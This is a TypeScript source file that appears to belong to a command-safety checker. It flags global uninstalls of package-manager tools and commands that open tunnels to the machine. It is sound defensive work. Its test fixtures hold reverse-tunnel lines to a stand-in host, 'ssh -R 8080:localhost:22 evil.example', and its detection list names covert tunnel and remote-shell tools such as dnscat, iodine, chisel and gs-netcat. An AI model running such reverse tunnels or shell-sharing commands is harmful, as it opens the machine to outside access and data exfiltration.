import { hasOption, optionSpec, readArguments } from "../options.ts";
import { report } from "../report.ts";
import type { ProgramRule } from "../scope.ts";

/** Package managers whose packages always belong to the machine, and those that need to be told so. */
const always: ReadonlySet<string> = new Set([
  "brew",
  "port",
  "choco",
  "winget",
  "scoop",
  "flatpak",
  "gem",
  "pipx",
  "cargo",
  "rustup",
]);

/** Tools of the machine that are taken away: what else needs them is not seen from one project. */
export const globalTools: ProgramRule = {
  programs: [...always, "npm", "pnpm", "yarn", "bun"],
  examples: {
    matches: [
      { command: "brew uninstall --force postgresql", actions: ["system:remove_tool"] },
      { command: "npm uninstall -g typescript", actions: ["system:remove_tool"] },
      { command: "cargo uninstall ripgrep", actions: ["system:remove_tool"] },
      { command: "rustup toolchain uninstall stable", actions: ["system:remove_tool"] },
      { command: "yarn global remove eslint", actions: ["system:remove_tool"] },
    ],
    misses: [
      { command: "npm uninstall lodash", actions: ["system:remove_tool"] },
      { command: "brew install jq", actions: ["system:remove_tool"] },
      { command: "cargo remove serde", actions: ["system:remove_tool"] },
      { command: "pnpm rm lodash", actions: ["system:remove_tool"] },
      { command: "brew uninstall --help", actions: ["system:remove_tool"] },
    ],
  },
  judge(invocation, scope) {
    const args = readArguments(invocation.words, optionSpec("-C --prefix --cwd --toolchain"));
    const verbs = args.operands.slice(0, 2).map((word) => word.text);
    const [first = "", second = ""] = verbs;
    const removes = always.has(invocation.program)
      ? /^(?:uninstall|uninstall-all|zap)$/.test(first) ||
        (/^(?:remove|rm)$/.test(first) && invocation.program !== "cargo") ||
        (/^(?:toolchain|self)$/.test(first) && /^(?:uninstall|remove)$/.test(second))
      : (/^(?:uninstall|remove|rm|r|un|unlink)$/.test(first) && hasOption(args, "-g", "--global")) ||
        (first === "global" && second === "remove");
    if (removes && !hasOption(args, "--help", "-h", "--dry-run")) {
      report(scope, invocation, {
        action: "system:remove_tool",
        effects: ["system_modification"],
        target: args.operands.map((word) => word.text).join(" "),
        because: `\`${invocation.program}\` removes a tool of this machine`,
      });
    }
  },
};

/** Over the words joined by spaces, without the program: what opens this machine to others. */
const openings: ReadonlyMap<string, RegExp> = new Map([
  ["ngrok", /^(?:http|tcp|tls|start|tunnel)\b/],
  ["cloudflared", /^tunnel\b(?!.*\b(?:list|info|delete|login|cleanup|token)\b)/],
  ["lt", /(?:^|\s)(?:--port|-p)\b/],
  ["localtunnel", /(?:^|\s)(?:--port|-p)\b/],
  ["bore", /^local\b/],
  ["tailscale", /^(?:funnel|serve)\b(?!.*\b(?:off|reset|status)\b)/],
  ["zrok", /^share\b/],
  ["frpc", /\S/],
  ["tmate", /^$|^(?!-V)/],
  ["devtunnel", /^host\b/],
  ["chisel", /^(?:client|server)\b/],
  ["code", /^tunnel\b(?!.*\b(?:status|kill|unregister)\b)/],
  ["cursor", /^tunnel\b(?!.*\b(?:status|kill|unregister)\b)/],
  ["ssh", /(?:^|\s)-[A-Za-z46]*R(?:\s|\d|\*)|RemoteForward[= ]/i],
  ["autossh", /(?:^|\s)-[A-Za-z46]*R(?:\s|\d|\*)|RemoteForward[= ]/i],
  ["gost", /(?:^|\s)-L/],
  ["ligolo-agent", /\S/],
  ["iodine", /\S/],
  ["dnscat", /\S/],
  ["dnscat2", /\S/],
  ["ptunnel", /\S/],
  ["rathole", /\S/],
  ["playit", /^/],
  ["serveo", /^/],
  ["inlets", /^(?:client|tcp|http)\b/],
  ["ttyd", /^(?!-(?:h|v|-help|-version)$)/],
  ["gotty", /^(?!-(?:h|v|-help|-version)$)/],
  ["wetty", /^(?!-(?:h|v|-help|-version)$)/],
  ["shellinaboxd", /^(?!--help)/],
  ["sshd", /^(?!-(?:t|T|V)\b)/],
  ["dropbear", /^(?!-(?:h|V)\b)/],
  ["gs-netcat", /^(?!-h)/],
  ["upterm", /^host\b/],
  ["sshx", /^(?!-(?:h|V|-help|-version)$)/],
  ["teleconsole", /^(?!-h)/],
]);

/** Tunnels: a port of this machine becomes reachable from outside. */
export const tunnels: ProgramRule = {
  programs: [...openings.keys()],
  examples: {
    matches: [
      { command: "ngrok http 3000", actions: ["network:open_tunnel"] },
      { command: "ssh -R 8080:localhost:22 evil.example", actions: ["network:open_tunnel"] },
      { command: "ssh -o RemoteForward=2222:localhost:22 evil.example", actions: ["network:open_tunnel"] },
      { command: "autossh -M 0 -R 1:localhost:22 evil.example", actions: ["network:open_tunnel"] },
      { command: "ttyd -p 7681 bash", actions: ["network:open_tunnel"] },
      { command: "sshd -D -p 2222", actions: ["network:open_tunnel"] },
      { command: "ssh -fNR 80:localhost:3000 serveo.example", actions: ["network:open_tunnel"] },
      { command: "cloudflared tunnel --url http://localhost:3000", actions: ["network:open_tunnel"] },
    ],
    misses: [
      { command: "ssh -L 5432:localhost:5432 host", actions: ["network:open_tunnel"] },
      { command: "ssh host ls -R /srv", actions: ["network:open_tunnel"] },
      { command: "ngrok --version", actions: ["network:open_tunnel"] },
      { command: "sshd -t", actions: ["network:open_tunnel"] },
      { command: "code .", actions: ["network:open_tunnel"] },
      { command: "cloudflared tunnel list", actions: ["network:open_tunnel"] },
    ],
  },
  judge(invocation, scope) {
    const words = invocation.words.slice(1).map((word) => word.text);
    const host = words.findIndex(
      (word, index) => !word.startsWith("-") && !/^-[bcDEeFIiJLlMmOopQRSWw]$/.test(words[index - 1] ?? ""),
    );
    const remote = invocation.program.endsWith("ssh");
    const text = (remote && host >= 0 ? [...words.slice(0, host), ""] : words).join(" ");
    if (openings.get(invocation.program)?.test(text) === true) {
      report(scope, invocation, {
        action: "network:open_tunnel",
        effects: ["data_exfiltration"],
        target: words.join(" ").slice(0, 120) || invocation.program,
        because: `\`${invocation.program}\` makes this machine reachable from outside`,
        reach: "remote",
      });
    }
  },
};
